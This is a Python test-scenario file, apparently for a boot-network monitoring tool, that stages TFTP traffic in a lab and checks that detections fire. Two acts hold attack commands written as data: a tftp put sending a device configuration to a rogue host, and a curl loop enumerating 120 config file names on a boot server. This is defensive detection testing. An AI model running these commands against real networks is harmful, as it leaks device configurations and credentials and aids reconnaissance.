"""Files that leave, are looked for, or are asked for in unusual ways: tftp-hpa, atftp, curl."""

from __future__ import annotations

from bootwarden.lab import daemons
from bootwarden.lab.model import act
from bootwarden.lab.stage import Stage
from bootwarden.scenarios.model import Notice
from bootwarden.scenarios.sites import BOOT_SERVER
from bootwarden.traffic import images

CONFIG = images.config("edge16", ("boot system flash:c2900-universalk9-mz.SPA.157-3.M8.bin",))


@act(
    scenario="bw18-to-rogue",
    hosts={"device": "10.0.1.16", "rogue": "10.0.6.116"},
    needs=("in.tftpd", "tftp"),
    notices=(Notice("Config_Exfiltration", "10.0.1.16", "10.0.6.116", "edge16-confg"),),
    raises=[("BW18", 0, "10.0.1.16", "10.0.6.116")],
)
def exfiltration(stage: Stage) -> None:
    """A device writes its configuration to an undeclared TFTP server."""
    root = daemons.tftpd(stage, "rogue", {}, "--create")
    config = stage.file("running-config", CONFIG)
    stage.run("device", "tftp", "-m", "octet", "10.0.6.116", "-c", "put", config, "edge16-confg")
    stage.same((root / "edge16-confg").read_bytes(), CONFIG)


@act(scenario="bw18-nightly-backups", hosts={"device": "10.0.1.19", "boot": BOOT_SERVER}, needs=("in.tftpd", "tftp"))
def nightly_backup(stage: Stage) -> None:
    """A device writes its configuration to the declared server."""
    root = daemons.tftpd(stage, "boot", {}, "--create")
    config = stage.file("running-config", CONFIG)
    stage.run("device", "tftp", "-m", "octet", BOOT_SERVER, "-c", "put", config, "edge19-confg")
    stage.same((root / "edge19-confg").read_bytes(), CONFIG)


@act(
    scenario="bw16-word-list",
    hosts={"attacker": "10.0.6.19", "boot": BOOT_SERVER},
    needs=("in.tftpd", "curl"),
    notices=(Notice("TFTP_Enumeration", "10.0.6.19", BOOT_SERVER),),
    raises=[("BW16", 0, BOOT_SERVER, "10.0.6.19")],
)
def enumeration(stage: Stage) -> None:
    """curl tries 120 names, one after the other, on the declared server."""
    daemons.tftpd(stage, "boot", {"sw7-confg": CONFIG})
    words = ("--silent", "--output", "got-#1", f"tftp://{BOOT_SERVER}/sw[1-120]-confg")
    stage.run("attacker", "curl", *words, may_fail=True)
    stage.same((stage.folder / "got-7").read_bytes(), CONFIG)


@act(
    scenario="tftp-ends-size-probe",
    hosts={"pxe": "10.20.4.18", "boot": BOOT_SERVER},
    needs=("in.tftpd", "curl", "atftp"),
)
def size_probe(stage: Stage) -> None:
    """A loader asks for the size before it loads, as UEFI does (atftp), and another asks with all options (curl)."""
    loader = images.efi()
    daemons.tftpd(stage, "boot", {"boot/grubx64.efi": loader})
    # UEFI gives up the first transfer as soon as it knows the size.
    stage.run("pxe", "curl", "--silent", "--max-filesize", "1", f"tftp://{BOOT_SERVER}/boot/grubx64.efi", may_fail=True)
    words = ("--option", "tsize 0", "--option", "blksize 1428", "--get", "-r", "boot/grubx64.efi", "-l", "got")
    stage.run("pxe", "atftp", *words, BOOT_SERVER)
    stage.same((stage.folder / "got").read_bytes(), loader)
